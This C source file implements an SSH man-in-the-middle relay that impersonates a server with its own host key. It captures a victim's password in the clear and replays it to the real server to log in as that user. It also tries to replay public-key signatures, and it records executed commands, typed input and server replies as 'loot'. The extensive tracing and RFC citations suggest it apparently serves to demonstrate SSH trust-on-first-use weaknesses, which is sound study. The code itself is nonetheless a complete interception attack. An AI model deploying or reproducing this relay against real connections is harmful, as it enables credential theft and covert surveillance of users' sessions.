/* One SSH conversation in the middle: a server to the victim, a client to the true server. */
#include <poll.h>
#include <sodium.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "glassnet/ssh_transport.h"
#include "sshmiddle.h"

struct relay {
	const struct sshmiddle_options *opt;
	struct trace *t;
	struct sshmiddle_talk *out;
	struct sshtr victim, server;
	const struct endpoint *target;
	char victim_name[IP_TEXT], target_name[IP_TEXT];
	int server_fd; /* -1: not connected */
	struct sbuf scratch;
};

static struct deadline soon(const struct relay *r)
{
	return deadline_in(r->opt->limit_ns, r->opt->stop_fd);
}

static void keep(struct relay *r, const char *who, const uint8_t *p, size_t n)
{
	struct sshmiddle_talk *o = r->out;
	char text[120];

	escape_text(text, sizeof(text), p, n);
	ev_state(r->t, "loot", who, NULL, text, "in the clear, for mallory");
	if (o->n_kept < SSHMIDDLE_KEPT)
		snprintf(o->kept[o->n_kept++], SSHMIDDLE_TEXT, "%s: %s", who, text);
	sodium_memzero(text, sizeof(text));
}

/* A short message: a type and numbers or strings, as the letters of form say (b, u, s). */
static enum err say(struct sshtr *tr, const char *label, uint8_t type, const char *form, ...)
{
	struct sbuf b = {0};
	va_list ap;

	sbuf_u8(&b, type);
	va_start(ap, form);
	for (const char *f = form; *f; f++)
		if (*f == 'b')
			sbuf_bool(&b, va_arg(ap, int) != 0);
		else if (*f == 'u')
			sbuf_u32(&b, va_arg(ap, uint32_t));
		else
			sbuf_text(&b, va_arg(ap, const char *));
	va_end(ap);
	enum err e = sshtr_send(tr, &b, false, label);
	sbuf_release(&b);
	return e;
}

/* --- towards the true server --- */

static enum err server_connect(struct relay *r)
{
	struct sshtr_options o = {.deadline = soon(r),
	    .trace = r->t,
	    .me = "mallory",
	    .peer = r->target_name,
	    .offer = {SSH_OFFER_KEX, SSH_OFFER_HOSTKEY, SSH_OFFER_CIPHER, true},
	    .keylog_fd = -1};
	enum err e = dial(r->target, o.deadline, &r->server_fd);

	if (e != ERR_OK) {
		ev_decision(r->t, "unreachable", NULL, "%s does not answer mallory", r->target_name);
		return e;
	}
	o.fd = r->server_fd;
	sshtr_init(&r->server, &o);
	e = sshtr_start(&r->server);
	if (e == ERR_OK)
		e = say(&r->server, "SERVICE_REQUEST", SSHMSG_SERVICE_REQUEST, "s", "ssh-userauth");
	while (e == ERR_OK && (e = sshtr_recv(&r->server, true)) == ERR_OK)
		if (r->server.payload.p[0] == SSHMSG_SERVICE_ACCEPT)
			break;
	return e;
}

static void server_close(struct relay *r)
{
	if (r->server_fd < 0)
		return;
	sshtr_release(&r->server);
	close(r->server_fd);
	r->server_fd = -1;
}

/* The victim's request, octet for octet, said to the true server. True: it lets mallory in. */
static bool passed_on(struct relay *r, const struct sbuf *request, bool secret, const char *label)
{
	enum err e = server_connect(r);

	if (e == ERR_OK)
		e = sshtr_send(&r->server, request, secret, label);
	while (e == ERR_OK && (e = sshtr_recv(&r->server, true)) == ERR_OK) {
		uint8_t type = r->server.payload.p[0];
		sshtr_told(&r->server, NULL, false);
		if (type == SSHMSG_USERAUTH_SUCCESS)
			return true;
		if (type == SSHMSG_USERAUTH_FAILURE)
			break;
	}
	server_close(r);
	return false;
}

/* --- who is the victim --- */

struct request {
	char user[SSHMIDDLE_TEXT], method[32];
	struct rd rest;
};

static bool take_request(struct relay *r, struct request *q)
{
	char service[64];

	q->rest = rd_init(r->victim.payload.p, r->victim.payload.len);
	return rd_u8(&q->rest) == SSHMSG_USERAUTH_REQUEST && rd_text(&q->rest, q->user, sizeof(q->user)) &&
	       rd_text(&q->rest, service, sizeof(service)) && rd_text(&q->rest, q->method, sizeof(q->method));
}

static enum err not_yet(struct relay *r)
{
	return say(&r->victim, "USERAUTH_FAILURE: publickey or password, please", SSHMSG_USERAUTH_FAILURE, "sb",
	    "publickey,password", 0);
}

/* A question is answered with yes: mallory wants the signature. */
static enum err key_asked(struct relay *r, const char *alg, const uint8_t *blob, size_t len)
{
	struct sbuf b = {0};

	sbuf_u8(&b, SSHMSG_USERAUTH_PK_OK);
	sbuf_text(&b, alg);
	sbuf_string(&b, blob, len);
	enum err e = sshtr_send(&r->victim, &b, false, "USERAUTH_PK_OK: any key would do, sign");
	sbuf_release(&b);
	return e;
}

static enum err key_signed(struct relay *r, bool *in)
{
	struct sshmiddle_talk *o = r->out;

	o->signature = true;
	ev_decision(r->t, "signature", "RFC 4252 7",
	    "%s signed, and mallory tries to log in to %s with that very request", r->victim_name, r->target_name);
	if (passed_on(r, &r->scratch, false, "USERAUTH_REQUEST publickey, signed by the victim, passed on")) {
		*in = true; /* it must not happen; if it does, it is told as it is */
		return say(&r->victim, NULL, SSHMSG_USERAUTH_SUCCESS, "");
	}
	o->signature_refused = true;
	ev_decision(r->t, "signature-refused", "RFC 4252 7",
	    "%s does not take it: the signature is over the session id of the exchange with mallory, and the server "
	    "has "
	    "another one. mallory can pretend to be the server, and can't be %s there",
	    r->target_name, o->user);
	return say(&r->victim, "USERAUTH_SUCCESS: come in, it is only mallory", SSHMSG_USERAUTH_SUCCESS, "");
}

static enum err take_key(struct relay *r, struct request *q, bool *in)
{
	char alg[SSHALG_MAX];
	size_t n;
	bool is_signed = rd_u8(&q->rest) != 0;

	if (!rd_text(&q->rest, alg, sizeof(alg)))
		return ERR_FORMAT;
	const uint8_t *blob = rd_string(&q->rest, &n);
	if (!blob)
		return ERR_FORMAT;
	sshtr_told(&r->victim,
	    is_signed ? "USERAUTH_REQUEST publickey, signed" : "USERAUTH_REQUEST publickey: would this do?", false);
	if (!is_signed)
		return key_asked(r, alg, blob, n);
	sbuf_clear(&r->scratch);
	sbuf_bytes(&r->scratch, r->victim.payload.p, r->victim.payload.len);
	return key_signed(r, in);
}

static enum err take_password(struct relay *r, struct request *q, bool *in)
{
	struct sshmiddle_talk *o = r->out;
	size_t n;

	sshtr_told(&r->victim, "USERAUTH_REQUEST password", true);
	rd_skip(&q->rest, 1);
	const uint8_t *p = rd_string(&q->rest, &n);
	if (!p)
		return ERR_FORMAT;
	escape_text(o->password, sizeof(o->password), p, n);
	ev_state(
	    r->t, "loot", "password", NULL, o->password, "of %s: it was encrypted on the way, to mallory", o->user);
	sbuf_clear(&r->scratch);
	sbuf_bytes(&r->scratch, r->victim.payload.p, r->victim.payload.len);
	o->password_works = passed_on(r, &r->scratch, true, "USERAUTH_REQUEST password, passed on");
	sbuf_clear(&r->scratch);
	if (!o->password_works)
		return not_yet(r);
	ev_decision(r->t, "password-works", "RFC 4252 8",
	    "%s lets mallory in as %s: a password says nothing of who passes it on", r->target_name, o->user);
	*in = true;
	return say(&r->victim, NULL, SSHMSG_USERAUTH_SUCCESS, "");
}

/* Until the victim is let in. *in: mallory is logged in to the true server, too. */
static enum err victim_login(struct relay *r, bool *in)
{
	struct request q;

	for (int tries = 0; tries < 32; tries++) {
		enum err e = sshtr_recv(&r->victim, true);
		if (e != ERR_OK)
			return e;
		if (r->victim.payload.p[0] == SSHMSG_SERVICE_REQUEST) {
			sshtr_told(&r->victim, NULL, false);
			e = say(&r->victim, NULL, SSHMSG_SERVICE_ACCEPT, "s", "ssh-userauth");
		} else if (!take_request(r, &q)) {
			return ERR_FORMAT;
		} else {
			snprintf(r->out->user, sizeof(r->out->user), "%s", q.user);
			e = strcmp(q.method, "publickey") == 0  ? take_key(r, &q, in)
			    : strcmp(q.method, "password") == 0 ? take_password(r, &q, in)
			                                        : (sshtr_told(&r->victim, NULL, false), not_yet(r));
		}
		if (e != ERR_OK)
			return e;
		if (r->out->signature || r->out->password_works)
			return ERR_OK;
	}
	return ERR_BUDGET;
}

/* --- what is said then --- */

/* What of a message is worth keeping. */
static void listen_in(struct relay *r, const struct sbuf *m, bool from_victim)
{
	struct rd x = rd_init(m->p, m->len);
	char name[64];
	size_t n;
	uint8_t type = rd_u8(&x);

	(void)rd_u32(&x);
	if (type == SSHMSG_CHANNEL_REQUEST && rd_text(&x, name, sizeof(name)) && strcmp(name, "exec") == 0) {
		rd_skip(&x, 1);
		const uint8_t *p = rd_string(&x, &n);
		if (p)
			keep(r, "command", p, n);
	} else if (type == SSHMSG_CHANNEL_DATA) {
		const uint8_t *p = rd_string(&x, &n);
		if (p)
			keep(r, from_victim ? "input" : "the server's answer", p, n);
	}
}

/* Messages are carried over as they are: channels and windows are the two ends' own affair. */
static enum err carry(struct relay *r, struct sshtr *from, struct sshtr *to)
{
	enum err e;

	from->o.deadline = to->o.deadline = soon(r);
	while ((e = sshtr_recv(from, false)) == ERR_OK) {
		if (from->payload.p[0] < SSHMSG_GLOBAL_REQUEST)
			continue; /* EXT_INFO, banners */
		sshtr_told(from, NULL, true);
		listen_in(r, &from->payload, from == &r->victim);
		if ((e = sshtr_send(to, &from->payload, true, NULL)) != ERR_OK)
			return e;
	}
	return e == ERR_TIMEOUT && from->err == ERR_OK ? ERR_OK : e;
}

static enum err relay_both(struct relay *r)
{
	int64_t silence = 6 * r->opt->limit_ns;
	const struct timespec ts = {(time_t)(silence / NS_PER_S), (long)(silence % NS_PER_S)};
	struct sshtr *side[2] = {&r->victim, &r->server};
	enum err e = ERR_OK;

	for (;;) {
		for (int i = 0; i < 2 && e == ERR_OK; i++)
			e = carry(r, side[i], side[!i]);
		if (e != ERR_OK)
			return e;
		struct pollfd p[3];
		for (int i = 0; i < 2; i++)
			p[i] = (struct pollfd){
			    .fd = side[i]->o.fd, .events = (short)(POLLIN | (side[i]->queue.len ? POLLOUT : 0))};
		p[2] = (struct pollfd){.fd = r->opt->stop_fd, .events = POLLIN};
		int n = ppoll(p, 3, &ts, NULL);
		if (n <= 0 || p[2].revents)
			return n == 0 ? ERR_TIMEOUT : ERR_NET;
		for (int i = 0; i < 2 && e == ERR_OK; i++) {
			e = sshtr_flush(side[i], false);
			if (e == ERR_OK && p[i].revents & (POLLIN | POLLHUP | POLLERR))
				e = sshtr_fill(side[i]);
		}
	}
}

/* Without a login of its own mallory can only play the server: it hears the command, and has no answer to it. */
static enum err pretend(struct relay *r)
{
	struct sshtr *v = &r->victim;
	enum err e = ERR_OK;
	uint32_t channel = 0;

	while (e == ERR_OK && (e = sshtr_recv(v, true)) == ERR_OK) {
		struct rd x = rd_init(v->payload.p, v->payload.len);
		char name[64];
		uint8_t type = rd_u8(&x);
		sshtr_told(v, NULL, type == SSHMSG_CHANNEL_DATA);
		listen_in(r, &v->payload, true);
		if (type == SSHMSG_CHANNEL_OPEN && rd_text(&x, name, sizeof(name))) {
			channel = rd_u32(&x);
			e = say(v, NULL, SSHMSG_CHANNEL_OPEN_CONFIRMATION, "uuuu", channel, 0u, 65536u, 32768u);
		} else if (type == SSHMSG_CHANNEL_REQUEST) {
			e = say(v, NULL, SSHMSG_CHANNEL_SUCCESS, "u", channel);
			if (e == ERR_OK)
				e = say(v, "exit-status: nothing was run", SSHMSG_CHANNEL_REQUEST, "usbu", channel,
				    "exit-status", 0, 255u);
			if (e == ERR_OK)
				e = say(v, NULL, SSHMSG_CHANNEL_CLOSE, "u", channel);
		}
	}
	return e;
}

/* --- the whole --- */

static void tell_refused(struct relay *r)
{
	ev_decision(r->t, "refused", "RFC 4251 4.1",
	    "%s hangs up on mallory's host key. mallory has its version line (%s) and its lists of algorithms: no "
	    "user's name, no "
	    "signature, no password",
	    r->victim_name, r->out->client);
}

void sshmiddle_relay(const struct sshmiddle_options *opt, struct trace *t, const struct sshkey_private *host_key,
    int victim_fd, const char *victim, const struct endpoint *target, struct sshmiddle_talk *out)
{
	struct relay r = {.opt = opt, .t = t, .out = out, .target = target, .server_fd = -1};
	struct sshtr_options o = {.fd = victim_fd,
	    .server = true,
	    .deadline = deadline_in(opt->limit_ns, opt->stop_fd),
	    .trace = t,
	    .me = "mallory",
	    .peer = r.victim_name,
	    .offer = {SSH_OFFER_KEX, "ssh-ed25519", SSH_OFFER_CIPHER, true},
	    .keylog_fd = -1,
	    .host_key = host_key};
	bool in = false;

	*out = (struct sshmiddle_talk){.end = "refused"};
	snprintf(r.victim_name, sizeof(r.victim_name), "%s", victim);
	ip_text(r.target_name, &target->ip);
	ev_decision(t, "taken", NULL, "%s wants to talk to %s; mallory answers", victim, r.target_name);
	sshtr_init(&r.victim, &o);
	enum err e = sshtr_start(&r.victim);
	escape_text(out->client, sizeof(out->client), r.victim.version[1], strlen(r.victim.version[1]));
	if (e == ERR_OK)
		e = victim_login(&r, &in);
	/* who asks to log in has taken the key */
	out->trusted = out->user[0] != '\0';
	if (!out->trusted)
		tell_refused(&r);
	else if (e != ERR_OK)
		out->end = "no-login";
	else if (in)
		out->end = "relayed", e = relay_both(&r);
	else
		out->end = "pretended", e = pretend(&r);
	server_close(&r);
	sshtr_release(&r.victim);
	sbuf_release(&r.scratch);
	(void)e;
}
